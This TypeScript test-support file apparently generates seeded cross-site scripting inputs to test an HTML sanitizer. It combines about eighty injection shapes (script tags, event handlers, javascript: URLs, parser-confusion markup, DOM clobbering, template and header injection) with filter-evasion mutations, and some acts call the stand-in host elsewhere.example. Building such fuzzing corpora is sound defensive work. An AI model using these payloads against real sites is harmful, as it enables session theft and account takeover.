// Texts that try to become script: one shape for each way a page can be broken (a tag, an attribute
// of each kind of quotes, a handler, an address, a style, raw text elements, other namespaces,
// markup that changes when it is parsed again, names that shadow the page's own), each changed at
// random as filters are usually evaded. The same seed gives the same texts.
import { type Random, randomInteger } from '#base/random.ts';
import { pick, seededRandom } from '#test/support/seeded-random.ts';

/** All of them tell the page that they ran. */
const ACTS = [
  'fired()',
  'window.fired()',
  'top["fired"]()',
  'self[`fired`]()',
  'alert(1)',
  'confirm`1`',
  'Function("fired()")()',
  'setTimeout("fired()")',
  'fetch("//elsewhere.example/"+fired())',
  'location="//elsewhere.example/"+fired()',
  'document.body.append(fired())',
  'import("//elsewhere.example/"+fired())',
];

const SHAPES: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<script src="data:text/javascript,${act}"></script>`,
  (act) => `<script src=//elsewhere.example/${act}></script>`,
  (act) => `<script type=module>${act}</script>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<img src="x" onerror="${act.replaceAll('"', "'")}">`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s></svg>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><text y=9>x</text></a></svg>`,
  (act) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}>#x"></use></svg>`,
  (act) => `<svg><foreignObject><iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  (act) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${act}>`,
  (act) => `<math href="javascript:${act}">x</math>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<template><s></template><img src=x onerror=${act}>`,
  (act) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<select><style></select><img src=x onerror=${act}></style>`,
  (act) => `<body onload=${act}>`,
  (act) => `<body onpageshow=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<details open ontoggle=${act}>x`,
  (act) => `<video autoplay><source onerror=${act}></video>`,
  (act) => `<audio src=x onerror=${act}>`,
  (act) => `<object data="javascript:${act}">`,
  (act) => `<embed src="data:text/html,<script>${act}</script>">`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<marquee onstart=${act}>x</marquee>`,
  (act) => `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart=${act}>x`,
  (act) => `<style>*{background:url("javascript:${act}")}</style>`,
  (act) => `<style>@import "//elsewhere.example/${act}";</style>`,
  (act) => `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${act}>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${act}</script>`,
  (act) => `<base href="//elsewhere.example/"><script>${act}</script>`,
  (act) => `<a href="javascript:${act}" autofocus>x</a>`,
  (act) => `<a href="data:text/html,<script>${act}</script>">x</a>`,
  (act) => `<form action="javascript:${act}"><button>x`,
  (act) => `<button formaction="javascript:${act}">x`,
  (act) => `<isindex type=image src=1 onerror=${act}>`,
  (act) => `" onmouseover="${act}`,
  (act) => `" autofocus onfocus="${act}" x="`,
  (act) => `' onfocus='${act}' autofocus tabindex='1`,
  (act) => `\` onload=\`${act}`,
  (act) => `x onclick=${act} y`,
  (act) => `"><script>${act}</script><"`,
  (act) => `'><script>${act}</script><'`,
  (act) => `"/><svg/onload=${act}//`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `</bdi></p></dd></dl></section></main><script>${act}</script>`,
  (act) => `</option></select></table></svg></math><script>${act}</script>`,
  (act) => `--><script>${act}</script><!--`,
  (act) => `<!--><script>${act}</script>-->`,
  (act) => `<![CDATA[<script>${act}</script>]]>`,
  (act) => `<?xml version="1.0"?><script>${act}</script>`,
  (act) => `<plaintext><script>${act}</script>`,
  (act) => `<xmp><p title="</xmp><img src=x onerror=${act}>">`,
  (act) => `javascript:${act}`,
  (act) =>
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+${act}//'>`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `vbscript:${act}`,
  (act) => `//elsewhere.example/${act}`,
  (act) => `https://shop.example/"onmouseover="${act}`,
  (act) => `"<img src=x onerror=${act}>"@shop.example`,
  (act) => `#000;}</style><script>${act}</script>`,
  (act) => `red;background:url(//elsewhere.example/${act})`,
  (act) => `'-${act}-'`,
  (act) => `\\"-${act}//`,
  (act) => `\${${act}}`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `<%= ${act} %>`,
  (act) => `"},"html":"<img src=x onerror=${act}>","x":{"y":"`,
  (act) => `x\r\nSet-Cookie: a=b\r\n\r\n<script>${act}</script>`,
  (act) => `<p id=main data-source="//elsewhere.example/${act}"><p id=live name=body>`,
  (act) => `<form name=querySelector><input name=dataset value="${act}">`,
  (act) => `<b data-copy="${act}" data-leave="javascript:${act}" data-left=0>x`,
];

const CHANGES: readonly ((text: string, random: Random) => string)[] = [
  (text) => text,
  (text) => text,
  (text) =>
    text.replace(/<(\/?)([a-z]+)/g, (_all, slash, name) => `<${slash}${name.toUpperCase()}`),
  (text, random) => perLetter(text, random, (letter) => letter.toUpperCase(), /[a-z]/),
  (text) => text.replace(/<([a-z]+) /g, '<$1/'),
  (text) => text.replace(/<([a-z]+) /g, '<$1\n\t'),
  (text) => text.replace('javascript:', 'java\tscript\n:'),
  (text) => text.replace('javascript:', '\u0001 javascript&colon;'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text, random) => perLetter(text, random, (letter) => `&#${letter.codePointAt(0)};`, /[a-z<>"']/),
  (text, random) => perLetter(text, random, (letter) => `&#x${hex(letter)}`, /[a-z<>"']/),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text, random) =>
    perLetter(text, random, (letter) => `\\u${hex(letter).padStart(4, '0')}`, /[<>"']/),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
  (text, random) => perLetter(text, random, (letter) => `${letter}\u200b`, /[<a-z]/),
  (text) => text.replace('<', '<\u0000').replace('script', 'scr\u0000ipt'),
  (text) => `\u202e${text}\u202c`,
  (text) => `\ufeff${text}`,
  (text) => `\ud800${text}\udfff`,
  (text) => `${text}${text}`,
  (text) => text.replace(/<script/gi, '<scr<script>ipt'),
  (text) => text.replace(/>$/, ''),
  (text) => `"'\`>${text}`,
  (text) => `</div></body></html>${text}`,
  (text) => `${text}<!--`,
  (text, random) => `${'A'.repeat(randomInteger(random, 60))}${text}`,
];

/** Different texts, every shape many times. */
export function hostileTexts(count: number, seed = 20_260_301): string[] {
  const random = seededRandom(seed);
  const texts = new Set<string>();
  for (let index = 0; texts.size < count; index += 1) {
    const shape = SHAPES[index % SHAPES.length]!;
    const once = pick(random, CHANGES)(shape(pick(random, ACTS)), random);
    texts.add(randomInteger(random, 3) === 0 ? pick(random, CHANGES)(once, random) : once);
  }
  return [...texts];
}

function perLetter(
  text: string,
  random: Random,
  change: (letter: string) => string,
  which: RegExp,
) {
  return [...text]
    .map((letter) =>
      which.test(letter) && randomInteger(random, 3) === 0 ? change(letter) : letter,
    )
    .join('');
}

function hex(letter: string): string {
  return (letter.codePointAt(0) ?? 0).toString(16);
}
